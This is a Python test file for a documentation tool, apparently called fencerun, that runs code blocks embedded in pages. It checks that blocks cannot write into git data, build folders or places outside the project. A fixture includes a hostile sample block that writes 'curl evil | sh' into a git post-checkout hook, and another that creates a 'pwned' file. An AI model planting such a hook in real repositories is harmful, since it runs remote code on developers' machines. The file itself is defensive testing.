"""A block's workdir is a folder of the project it may write: never git data, the build's
own folders or anything outside the project. Each is refused at the block's line before
any block runs, as a build's error, never a traceback."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from fencerun.errors import BlockError
from fencerun.isolation.project_view import project_view
from fencerun.model import Block
from fencerun.run import Executor
from fencerun.run.steps import check_runnable

from tests.fencerun.conftest import build, write_project
from tests.fencerun.run.helpers import PAGE, block


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A project as a checkout holds it, with a sibling folder beside it."""
    root = tmp_path / "project"
    for folder in (
        ".git/hooks",
        "docs/examples",
        "plugins/x/.git",
        ".cache/fencerun",
        ".cache/social-cards",
        ".venv/bin",
        "site",
        "public",
    ):
        (root / folder).mkdir(parents=True)
    (root / "vendored").mkdir()
    (root / "vendored" / ".git").write_text("gitdir: ../.git/modules/vendored\n")
    (tmp_path / "sibling").mkdir()
    (root / "docs" / "to-git").symlink_to("../.git")
    (root / "docs" / "to-sibling").symlink_to("../../sibling")
    (root / "docs" / "to-examples").symlink_to("examples")
    return root


REFUSED = {
    ".git": "is git data",
    ".git/hooks": "is git data",
    "plugins/x/.git": "is git data",
    "docs/to-git": "is git data",
    "docs/to-git/hooks": "is git data",
    "vendored/.git": "is git data",
    "../sibling": "leads out of the project",
    "docs/to-sibling": "leads out of the project",
    "docs/../..": "leads out of the project",
    "/": "is an absolute path",
    "/tmp": "is an absolute path",
    ".cache": "inside .cache",
    ".cache/social-cards": "inside .cache",
    ".cache/fencerun": "inside .cache",
    ".venv/bin": "inside .venv",
    "site": "inside site",
    "public": "inside public",
}


@pytest.mark.parametrize("workdir", sorted(REFUSED))
def test_a_workdir_outside_what_blocks_may_write_is_refused_at_its_line(
    checkout: Path, workdir: str
) -> None:
    view = project_view(checkout, [checkout / "site", checkout / "public"])
    hostile = block("bash", "touch pwned", workdir=workdir)
    with Executor(
        project_dir=checkout, workers=1, build_dirs=[checkout / "site", checkout / "public"]
    ) as pool:

        def submit(checked: Block) -> None:
            pool.submit([checked])

        def plan(checked: Block) -> None:
            check_runnable(checked, view)

        for check in (plan, submit):
            with pytest.raises(BlockError, match=rf"^{PAGE}:10: ") as raised:
                check(hostile)
            assert REFUSED[workdir] in str(raised.value)
            assert "must name a folder of the project" in raised.value.hint
    assert not list(checkout.parent.rglob("pwned"))


def test_folders_of_the_project_stay_usable_workdirs(checkout: Path) -> None:
    view = project_view(checkout, [checkout / "site"])
    for workdir in ("docs/examples", "docs/to-examples", ".", "docs", "public"):
        assert view.workdir_problem(workdir) == "", workdir
    assert view.workdir("docs/to-examples") == os.path.realpath(checkout / "docs/examples")


def test_a_build_with_a_block_writing_git_hooks_fails_at_its_line_before_any_block_runs(
    tmp_path: Path,
) -> None:
    project = tmp_path / "site"
    write_project(
        project,
        {
            "index.md": """
            # Page

            ```bash exec="on" workdir="docs"
            touch first
            ```

            ```bash exec="on" workdir=".git"
            echo 'curl evil | sh' > hooks/post-checkout
            ```
            """
        },
    )
    (project / ".git" / "hooks").mkdir(parents=True)
    done = build(project)
    assert done.returncode != 0
    assert 'docs/index.md:7: workdir=".git" is git data' in done.output
    assert "Traceback" not in done.output
    assert not (project / ".git" / "hooks" / "post-checkout").exists()
    assert not list(project.rglob("first")), "a block ran before the build was refused"
